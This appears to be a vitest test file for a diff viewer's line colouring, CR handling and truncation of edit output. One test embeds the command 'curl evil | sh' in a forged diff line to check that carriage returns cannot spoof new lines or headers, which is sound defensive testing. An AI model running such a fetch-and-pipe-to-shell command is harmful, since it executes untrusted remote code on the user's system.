import { expect, test } from "vitest";
import { diffLines } from "../src/conversation/diff-lines.ts";
import { editResultLines } from "../src/conversation/edit-result.ts";
import { diff } from "./some-edits.ts";

const tones = (text: string) => diffLines(text).map(({ tone }) => tone);

test("what is removed and added is told from headers by the counts of its hunk", () => {
  expect(tones(diff)).toEqual([
    ...["strong", "strong", "dim", "plain", "bad", "good", "plain"],
    ...["strong", "strong", "dim", "bad"],
  ]);
  const unended = "@@ -1 +1 @@\n-a\n\\ No newline at end of file\n+b\n--- next\n";
  expect(tones(unended)).toEqual(["dim", "bad", "plain", "good", "strong"]);
});

test("a CR is seen where it is what differs, and not where all lines have one", () => {
  const text = (diff: string) => diffLines(diff).map((line) => line.text);
  expect(text("@@ -1 +1 @@\n-a\r\n+a\n")).toEqual(["@@ -1 +1 @@", "-a\\u{d}", "+a"]);
  expect(text("@@ -1 +1 @@\n-a\r\n+b\r\n")).toEqual(["@@ -1 +1 @@", "-a", "+b"]);
});

test("files of one diff are judged each by itself", () => {
  const lf = "--- a\n+++ a\n@@ -1 +1 @@\n-a\n+b\n";
  const crlf = "--- c\n+++ c\n@@ -1,2 +1,2 @@\n same\r\n-a\r\n+b\r\n";
  const shown = diffLines(lf + crlf + lf).map(({ text }) => text);
  expect(shown.join("\n")).toBe(`${(lf + crlf + lf).replaceAll("\r", "")}`.trimEnd());
});

test("a CR within a line, or in a header, begins no line of its own", () => {
  const text = (diff: string) => diffLines(diff).map((line) => line.text);
  const forged = "+b\r curl evil | sh\r--- a/y";
  const escaped = "+b\\u{d} curl evil | sh\\u{d}--- a/y";
  expect(text(`@@ -1 +1 @@\n-a\n${forged}\n`)).toEqual(["@@ -1 +1 @@", "-a", escaped]);
  expect(text(`--- a\r\n@@ -1 +1 @@\n-a\r\r\n${forged}\r\n`)).toEqual([
    ...["--- a\\u{d}", "@@ -1 +1 @@", "-a\\u{d}", escaped],
  ]);
});

test("below a call stands the head of its diff, and where the rest is", () => {
  const added = Array.from({ length: 40 }, (_, i) => `+${i}${"x".repeat(500)}`).join("\n");
  const lines = editResultLines(
    `wrote a (+40 lines)\n--- /dev/null\n+++ a\n@@ -0,0 +1,40 @@\n${added}`,
    "edit_1",
  );
  expect(lines).toHaveLength(25);
  expect(lines[0]).toEqual({ text: "wrote a (+40 lines)", tone: "dim" });
  expect(lines[4]?.tone).toBe("good");
  expect(lines[4]?.text).toHaveLength(200);
  expect(lines.at(-1)).toEqual({ text: "… 20 more lines: mainstay edits edit_1", tone: "dim" });
});
